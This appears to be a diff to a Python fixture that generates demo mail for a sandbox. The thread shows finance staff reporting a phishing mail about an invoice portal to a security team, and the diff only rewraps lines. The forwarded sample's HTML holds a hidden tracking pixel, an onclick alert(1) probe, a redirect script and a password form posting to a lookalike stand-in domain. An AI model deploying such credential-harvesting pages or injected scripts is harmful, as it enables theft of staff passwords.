@@ -9,7 +9,8 @@ from sandbox.demo.people import ACCOUNTS_PAYABLE, FINANCE_CAIRO, FINANCE_CONTROL
 SCREENSHOT = "screenshot-portal@fin.example"
 NEWSLETTER_LOGO = "https://images.invoice-portal.example/logo.png?u=accounts.payable"
 
-PAGE = f"""<html><head><style>p {{ font-family: Calibri, sans-serif; font-size: 11pt }}</style></head><body>
+PAGE = f"""<html><head><style>p {{ font-family: Calibri, sans-serif; font-size: 11pt }}</style></head>
+<body>
 <p>Hello Security team,</p>
 <p>three of us got the mail below this morning. The page it leads to looks like our <b>invoice portal</b>, but the
 address is <i>invoice-portal.example.net</i>:</p>
@@ -18,9 +19,11 @@ address is <i>invoice-portal.example.net</i>:</p>
 <p>Accounts Payable<br>Finance</p></body></html>"""
 
 FORWARDED_PAGE = f"""<html><body><p>The original, forwarded.</p><hr><div>
-<b>From:</b> Invoice Portal &lt;no-reply@invoice-portal.example.net&gt;<br><b>Subject:</b> Your payment run is on hold</div>
+<b>From:</b> Invoice Portal &lt;no-reply@invoice-portal.example.net&gt;<br>
+<b>Subject:</b> Your payment run is on hold</div>
 <p><img src="{NEWSLETTER_LOGO}" width="1" height="1" alt=""></p>
-<p onclick="alert(1)">Your payment run is <b>on hold</b>. <a href="http://invoice-portal.example.net/login">Sign in</a>
+<p onclick="alert(1)">Your payment run is <b>on hold</b>.
+<a href="http://invoice-portal.example.net/login">Sign in</a>
 to release it.</p><script>document.location='http://invoice-portal.example.net/'</script>
 <form action="http://invoice-portal.example.net/collect"><input name="password" type="password"></form></body></html>"""
 
@@ -42,16 +45,20 @@ def conversation(started_at: datetime) -> list[DemoMail]:
     thread = Thread("Phishing mail in the name of the invoice portal", started_at)
     thread.add(
         ACCOUNTS_PAYABLE,
-        "Hello Security team,\n\nthree of us got the mail below this morning. The page it leads to looks like our "
-        "invoice portal, but the address is invoice-portal.example.net.\n\nOne colleague has entered her password "
+        "Hello Security team,\n\nthree of us got the mail below this morning. The page it leads to looks "
+        "like our "
+        "invoice portal, but the address is invoice-portal.example.net.\n\nOne colleague has entered her "
+        "password "
         "before she noticed. What should she do right now?\n\nAccounts Payable\nFinance\n",
         html=PAGE,
         files=(picture("portal.png", (30, 90, 180), SCREENSHOT),),
     )
     thread.add(
         SOC,
-        "Thank you for telling us at once.\n\nPlease let her change her password now and call us at extension 4400. "
-        "Do not use the link again. Could you forward us the original as an attachment, and list who got it?\n\n"
+        "Thank you for telling us at once.\n\nPlease let her change her password now and call us at "
+        "extension 4400. "
+        "Do not use the link again. Could you forward us the original as an attachment, and list who got "
+        "it?\n\n"
         "Security Operations Center\n",
         to=(ACCOUNTS_PAYABLE,),
         cc=(FINANCE_CONTROLLER,),
@@ -99,7 +106,8 @@ def conversation(started_at: datetime) -> list[DemoMail]:
     thread.add(
         ACCOUNTS_PAYABLE,
         "The original, forwarded.\n\n-----Original Message-----\nFrom: Invoice Portal "
-        "<no-reply@invoice-portal.example.net>\nSubject: Your payment run is on hold\n\nYour payment run is on "
+        "<no-reply@invoice-portal.example.net>\nSubject: Your payment run is on hold\n\nYour payment run "
+        "is on "
         "hold. Sign in to release it.\n",
         subject="FW: Your payment run is on hold",
         html=FORWARDED_PAGE,
@@ -107,7 +115,11 @@ def conversation(started_at: datetime) -> list[DemoMail]:
         after_minutes=12,
     )
     thread.add(
-        FINANCE_CAIRO, ARABIC, subject="تنبيه: رسالة تصيد باسم بوابة الفواتير", html=ARABIC_PAGE, threaded=False
+        FINANCE_CAIRO,
+        ARABIC,
+        subject="تنبيه: رسالة تصيد باسم بوابة الفواتير",
+        html=ARABIC_PAGE,
+        threaded=False,
     )
     thread.add(
         FINANCE_CONTROLLER,
